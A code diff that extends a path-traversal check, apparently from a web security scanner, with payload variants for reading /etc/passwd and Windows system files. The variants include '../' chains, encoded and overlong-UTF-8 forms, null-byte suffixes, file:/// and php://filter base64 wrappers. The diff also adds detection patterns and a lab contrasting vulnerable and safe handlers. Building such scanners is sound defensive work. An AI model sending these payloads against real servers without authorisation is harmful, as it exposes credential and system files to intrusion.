@@ -1,17 +1,41 @@
-import { at, definePointCheck } from '../../active-check.ts';
+import { at, definePointCheck, type Point } from '../../active-check.ts';
+import { judgeComputed } from '../../oracle/computed.ts';
+import { isEncoded } from '../../point.ts';
+import { isResponsive } from '../../triage.ts';
+import { KNOWN_FILES, type System } from '../known-files.ts';
+import { firstToShow } from '../try-variants.ts';
 
-/** How the way up is written. */
-type Variant = (levels: number, file: string) => string;
+/** How the way to a file is written, in two ways that lead to the same place. */
+interface Variant {
+  write(file: string, way: 0 | 1, value: string): string;
+  system: System;
+  /** Also tried where nothing looks like a file. */
+  isUsual?: boolean;
+  isRaw?: boolean;
+}
 
-const FILE = 'etc/passwd';
-const SIGNATURE = /^root:[^:\n]*:0:0:/m;
-const NAMES = /file|path|doc|page|template|include|name|dir|folder|load|view|download|img|image|lang|style/i;
+/** Up from the folder to the top: too far is no further. */
+const up = (step: string, way: 0 | 1) => step.repeat(way === 0 ? 9 : 12);
+const stay = (way: 0 | 1) => './'.repeat(way);
+const folderOf = (value: string) => value.replace(/[^/]*$/, '');
+const endingOf = (value: string) => /\.[a-z0-9]{1,5}$/i.exec(value)?.[0] ?? '';
+const unix = (write: Variant['write'], more: Partial<Variant> = {}): Variant => ({ write, system: 'unix', ...more });
+
+const LIKE_A_FILE = /file|path|doc|page|template|include|name|dir|folder|load|view|img|image|lang|style|theme/i;
 const LABELS = {
   base: 'unchanged value',
-  attack: 'well-known file, six levels up',
-  further: 'the same file, nine levels up',
-  control: 'file that does not exist, six levels up',
+  attack: 'well-known file',
+  other: 'the same file by another way',
+  control: 'file that does not exist, by the same way',
 } as const;
+
+/** Programs that read a file through an encoder show it like this. */
+const ENCODED = /(?:^|[^A-Za-z0-9+/])cm9vdDp4OjA6MDo/;
+const showing = (system: System) =>
+  system === 'unix' ? new RegExp(`${KNOWN_FILES.unix.shows.source}|${ENCODED.source}`, 'm') : KNOWN_FILES.windows.shows;
+
+const looksLikeFile = ({ parameter: { name, value } }: Pick<Point, 'parameter'>) =>
+  LIKE_A_FILE.test(name) || /\.[a-z0-9]{2,5}$|\//i.test(value);
 
 export default definePointCheck<Variant>({
   id: 'path-traversal',
@@ -21,41 +45,69 @@ export default definePointCheck<Variant>({
   why: "The value is used as part of a file name, and '..' in it leads to any file the server may read: its keys, its source, its passwords.",
   fix: 'Do not build file names from requests. Look the name up in a list, or resolve the path and refuse what lies outside of the folder.',
   risk: 'harmless',
-  appliesTo: ({ parameter: { name, value } }) => NAMES.test(name) || /\.[a-z]{2,4}$|\//i.test(value),
+  locations: ['query', 'path', 'form', 'json', 'multipart', 'fileName', 'graphql', 'cookie', 'header'],
+  appliesTo: () => true,
+  isWorthTrying: isResponsive,
   variants: [
-    (levels, file) => '../'.repeat(levels) + file,
-    (levels, file) => `/${'../'.repeat(levels)}${file}`,
-    (levels, file) => '....//'.repeat(levels) + file,
-    (levels, file) => '..%2f'.repeat(levels) + file,
+    unix((file, way) => up('../', way) + file, { isUsual: true }),
+    unix((file, way) => `/${stay(way)}${file}`, { isUsual: true }),
+    unix((file, way) => `/${up('../', way)}${file}`),
+    unix((file, way, value) => `${folderOf(value)}${up('../', way)}${file}`),
+    unix((file, way) => up('....//', way) + file),
+    unix((file, way) => up('..%2f', way) + file),
+    unix((file, way) => up('%2e%2e%2f', way) + file, { isRaw: true }),
+    unix((file, way) => up('..%c0%af', way) + file, { isRaw: true }),
+    unix((file, way, value) => `${up('../', way)}${file}\0${endingOf(value) || '.txt'}`),
+    unix((file, way) => `file:///${stay(way)}${file}`),
+    unix((file, way) => `php://filter/convert.base64-encode/resource=/${stay(way)}${file}`),
+    ...[1, 2, 3, 4, 5, 6].map((levels) => unix((file, way) => `${stay(way)}${'../'.repeat(levels)}${file}`)),
+    { write: (file, way) => up('..\\', way) + file.replaceAll('/', '\\'), system: 'windows', isUsual: true },
+    { write: (file, way) => `C:/${stay(way)}${file}`, system: 'windows' },
+    { write: (file, way, value) => `${up('..\\', way)}${file}\0${endingOf(value)}`, system: 'windows' },
   ],
-  maxRequests: 24,
+  maxRequests: 30,
+  async probe(point, _nonce, { ask }) {
+    const worth = this.variants.filter(
+      ({ isUsual, isRaw }) => isUsual || (looksLikeFile(point) && (!isRaw || isEncoded(point))),
+    );
+    for (const variant of worth) {
+      const { system, write, isRaw = false } = variant;
+      const text = () => write(KNOWN_FILES[system].path, 0, point.parameter.value);
+      const found = await firstToShow([variant], showing(system), text, { point, ask, isRaw });
+      if (found.length > 0) return found;
+    }
+    return [];
+  },
   proof: {
-    plan: (point, variant, { word }) => [
-      at(point, LABELS.base, point.parameter.value),
-      at(point, LABELS.attack, variant(6, FILE)),
-      at(point, LABELS.control, variant(6, `etc/${word}`)),
-      at(point, LABELS.further, variant(9, FILE)),
-    ],
-    judge(answers) {
-      const shows = (label: string) => {
-        const body = answers.get(label)?.response?.body;
-        return body && SIGNATURE.test(body.toString());
-      };
-      const found = Object.values(LABELS).map(shows);
-      if (found.includes(undefined)) return 'VOID';
-      return shows(LABELS.attack) && shows(LABELS.further) && !shows(LABELS.control) && !shows(LABELS.base)
-        ? 'PROVED'
-        : 'REFUTED';
+    plan(point, { write, system, isRaw = false }, { word }) {
+      const { path } = KNOWN_FILES[system];
+      const { value } = point.parameter;
+      return [
+        at(point, LABELS.base, value),
+        at(point, LABELS.attack, write(path, 0, value), { isRaw }),
+        at(point, LABELS.control, write(path.replace(/[^/]*$/, word), 0, value), { isRaw }),
+        at(point, LABELS.other, write(path, 1, value), { isRaw }),
+      ];
+    },
+    judge(answers, { system }) {
+      const file = { [LABELS.attack]: showing(system), [LABELS.other]: showing(system) };
+      return judgeComputed(answers, file, [LABELS.base, LABELS.control]);
     },
   },
-  lab: () => ({
-    parameter: 'file',
-    value: 'terms.txt',
-    vulnerable(value) {
-      const { pathname } = new URL(value, 'file:///srv/shop/documents/');
-      if (pathname === '/etc/passwd') return { body: 'root:x:0:0:root:/root:/bin/sh\n' };
-      return pathname.endsWith('terms.txt') ? { body: 'Be kind.' } : { status: 404, body: 'No such file' };
-    },
-    safe: (value) => (value === 'terms.txt' ? { body: 'Be kind.' } : { status: 404, body: `No file ${value}` }),
-  }),
+  lab() {
+    const { resolve } = process.getBuiltinModule('node:path').posix;
+    const read = (path: string) => {
+      if (path === '/etc/passwd') return { body: 'root:x:0:0:root:/root:/bin/sh\n' };
+      return path === '/srv/shop/documents/terms.txt' ? { body: 'Be kind.' } : { status: 404, body: 'No such file' };
+    };
+    return {
+      parameter: 'file',
+      value: 'terms.txt',
+      vulnerable: (value) => read(resolve('/srv/shop/documents', value)),
+      safe(value) {
+        const path = resolve('/srv/shop/documents', value);
+        return path.startsWith('/srv/shop/documents/') ? read(path) : { status: 404, body: `No file ${value}` };
+      },
+    };
+  },
 });
